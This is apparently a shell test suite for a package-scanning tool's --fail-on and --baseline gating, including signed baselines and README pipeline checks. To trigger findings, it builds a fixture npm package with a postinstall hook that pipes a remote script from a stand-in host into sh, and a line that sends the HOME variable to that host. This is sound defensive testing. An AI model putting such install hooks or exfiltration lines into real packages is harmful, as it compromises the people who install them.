# --fail-on and --baseline: a pipeline goes on, or not, by what is new.
. tests/tap.sh
cd "$scratch" || exit 1
export HOME=$scratch/home
mkdir -p home
gate() { # WANTED-STATUS NAME ARGUMENTS...
  local wanted=$1 name=$2
  shift 2
  rm -f o.json
  status "$name" "$wanted" "$PROBITY" scan -q -f json -o o.json --no-cache --as-of 2026-11-21 --database "$scratch/db" "$@"
  out=$(cat o.json 2>&1)
}
make_package() { # FILE VERSION PACKAGE-JSON JS
  rm -rf package && mkdir package
  printf '{"name":"twin","version":"%s","description":"formats dates","license":"MIT","author":"A <a@b.example>"%s}\n' "$2" "$3" >package/package.json
  printf '%s\n' "$4" >package/index.js
  tar --owner=0 --group=0 --mtime=@0 --sort=name -czf "$1" package
}
plain='module.exports = (d) => d.toISOString().slice(0, 10);'
fetches="$plain
require('https').get('https://collect.vendor-host.net/v1?' + process.env.HOME);"
make_package old.tgz 1.0.0 '' "$plain"
make_package same.tgz 1.0.1 '' "$plain"
make_package new.tgz 1.1.0 ',"scripts":{"postinstall":"curl -s https://collect.vendor-host.net/x.sh | sh"}' "$fetches"

scan old.tgz && printf '%s\n' "$out" >old.json
is "conditional, as most are" "$rc" 3
gate 0 "reject alone fails: passes" --fail-on reject old.tgz
plain_report=$out
is "... the report is the same" "$plain_report" "$(<old.json)"
gate 0 "not rated: passes" --fail-on not-rated old.tgz
gate 1 "conditional: fails" --fail-on conditional old.tgz
like "... says what failed, and why" "$err" "gate: twin 1.0.0 fails --fail-on conditional: conditional: .*not verified: sbom"
gate 0 "against itself: passes" --fail-on conditional --baseline old.json old.tgz
is "... the report is the same" "$out" "$plain_report"
gate 0 "a version that brings nothing: passes" --fail-on conditional --baseline old.json same.tgz
gate 1 "a version that brings findings: fails" --fail-on conditional --baseline old.json new.tgz
printf '%s\n' "$out" >new.json
like "... how many" "$err" "[0-9]+ new findings?, [0-9]+ known"
like "... names them" "$err" "gate: new: high: integrity.install-network/"
is "... names all of them, and none that the old version has" "$(grep -c 'gate: new: ' <<<"$err")" \
  "$(/usr/bin/python3 -c 'import json
old, new = (json.load(open(f)) for f in ("old.json", "new.json"))
keys = lambda r: {(f["check"], f["key"]) for f in r["findings"]}
print(sum((f["check"], f["key"]) not in keys(old) for f in new["findings"]))')"
gate 0 "known by then: passes" --fail-on conditional --baseline new.json new.tgz
gate 0 "what went away does no harm" --fail-on conditional --baseline new.json old.tgz
gate 0 "--baseline alone is --fail-on reject" --baseline old.json new.tgz

# a sure critical: known or not
printf 'Probity.Gate.Test:0:*:50726f626974792d676174652d74657374\n' >"$scratch/db/gate.ndb"
printf 'Probity-gate-test\n' >package/mark.bin
tar --owner=0 --group=0 --mtime=@0 --sort=name -czf bad.tgz package
gate 1 "a detection: fails by reject" --fail-on reject bad.tgz
printf '%s\n' "$out" >bad.json
is "... it is one" "$(get 'r["score"]["decision"]')" reject
gate 1 "new in this version: fails" --baseline new.json bad.tgz
like "... named" "$err" "gate: new: critical: integrity.known-malware"
gate 0 "known: passes" --baseline bad.json bad.tgz
rm "$scratch/db/gate.ndb"

# --- several products, and other baselines
cat old.json new.json >both.jsonl
gate 1 "several: one fails" --fail-on conditional --baseline old.json old.tgz new.tgz
gate 0 "each against its own" --fail-on conditional --baseline both.jsonl old.tgz new.tgz
sed 's/"name":"twin"/"name":"other"/' old.json >other.json
/usr/bin/python3 -c 'import json
r = json.load(open("old.json")); r["product"]["name"] = "other"; r["assessment"]["rules_digest"] = "00" * 32
open("other.json", "w").write(json.dumps(r, sort_keys=True, separators=(",", ":"), ensure_ascii=False) + "\n")'
gate 0 "a baseline of another product and other rules" --fail-on conditional --baseline other.json same.tgz
like "... is told: product" "$err" "of another product: other"
like "... rules" "$err" "by other rules"
gate 0 "of another policy" --policy consumer --fail-on reject --baseline old.json same.tgz
like "... is told" "$err" "judged by the policy business"
cat other.json other.json >others.jsonl
gate 1 "of several none is of this product: all counts" --fail-on conditional --baseline others.jsonl same.tgz
like "... is told" "$err" "no report of this product"

# --- what is no baseline
/usr/bin/python3 -c 'import json; json.dump(json.load(open("old.json")), open("loose.json", "w"), indent=1)'
gate 2 "not canonical" --baseline loose.json old.tgz
like "... named with its line" "$err" "loose.json, line 1"
tr -d '\n' <old.json | sed 's/{"assessment"/{ "assessment"/' >spaced.json
gate 2 "a byte more" --baseline spaced.json old.tgz
like "... told where" "$err" "not in canonical form from byte 1 on"
printf '{}\n' >empty.json && gate 2 "no report" --baseline empty.json old.tgz
: >nothing.json && gate 2 "an empty file" --baseline nothing.json old.tgz
gate 2 "no file" --baseline nowhere.json old.tgz
gate 2 "a product that is not there: an error, whatever the gate says" --fail-on reject nowhere.tgz old.tgz
gate 2 "no such word" --fail-on acept old.tgz
status "report: fails as the scan does" 1 "$PROBITY" report -f json --fail-on conditional old.json
is "... and is written" "$out" "$(<old.json)"
status "report: with a baseline, passes" 0 "$PROBITY" report -f json --fail-on conditional --baseline old.json old.json
"$PROBITY" pack key new -W -s signer.key -p signer.pub >/dev/null
"$PROBITY" sign old.json --key signer.key -o signed.json 2>/dev/null
status "report, of a signed one: fails as the scan does" 1 "$PROBITY" report -f json --fail-on conditional signed.json
status "... with a signed baseline, passes" 0 "$PROBITY" report -f json --fail-on conditional --baseline signed.json signed.json
gate 0 "a signed baseline: as the report in it" --fail-on conditional --baseline signed.json same.tgz
gate 1 "... what is new fails" --fail-on conditional --baseline signed.json new.tgz
/usr/bin/python3 -c 'import base64, json
e = json.load(open("signed.json"))
p = base64.b64decode(e["payload"]).replace(b"{\"", b"{ \"", 1)
json.dump(dict(e, payload=base64.b64encode(p).decode()), open("blank.json", "w"))
json.dump(dict(e, payload="e30="), open("void.json", "w"))
json.dump(dict(e, payload="?"), open("base.json", "w"))'
gate 2 "a signed baseline with a blank in what is signed" --baseline blank.json old.tgz
like "... says where" "$err" "not in canonical form from byte 1 on"
gate 2 "a signed baseline that holds no report" --baseline void.json old.tgz
like "... is named" "$err" "void.json, line 1: it is no report that can be read"
gate 2 "a baseline whose payload is no base64" --baseline base.json old.tgz
like "... is named" "$err" "base.json, line 1: it is no report that can be read"
gate 2 "a word that is near" --fail-on rejct old.tgz
like "... is told" "$err" "did you mean reject"

# --- the pipelines of the README: read by a YAML parser, their commands run
cd "$scratch" || exit 1
/usr/bin/python3 "$here/tests/pipelines.py" "$here/README.md" pipelines >"$scratch/pipelines.log" 2>&1
is "the README's pipelines are YAML with what their services ask for" "$(<"$scratch/pipelines.log")" "github gitlab"
mkdir -p bin && printf '#!/bin/sh\nexec %q "$@"\n' "$PROBITY" >bin/probity && chmod +x bin/probity
for service in github gitlab; do
  mkdir -p "run-$service/dist" && cp old.tgz "run-$service/dist/"
  pipeline=("env" "-C" "run-$service" "PATH=$scratch/bin:$PATH" bash -e "../pipelines/$service.sh")
  run "${pipeline[@]}"
  is "$service: the first run passes and leaves a report" "$rc $(test -s "run-$service/report.json" && echo yes)" "0 yes"
  [[ $rc == 0 ]] || printf '%s\n' "$err" | sed 's/^/# /'
  is "... SARIF" "$(/usr/bin/python3 -c 'import json, sys; print(json.load(open(sys.argv[1]))["version"])' "run-$service/report.sarif" 2>&1)" 2.1.0
  mkdir -p "run-$service/.probity" && cp "run-$service/report.json" "run-$service/.probity/baseline.json"
  rm "run-$service/dist/old.tgz" && cp new.tgz "run-$service/dist/"
  run "${pipeline[@]}"
  is "... with a baseline, what is new fails it" "$rc" 1
  like "... and is named" "$err" "gate: new: high"
done
done_testing
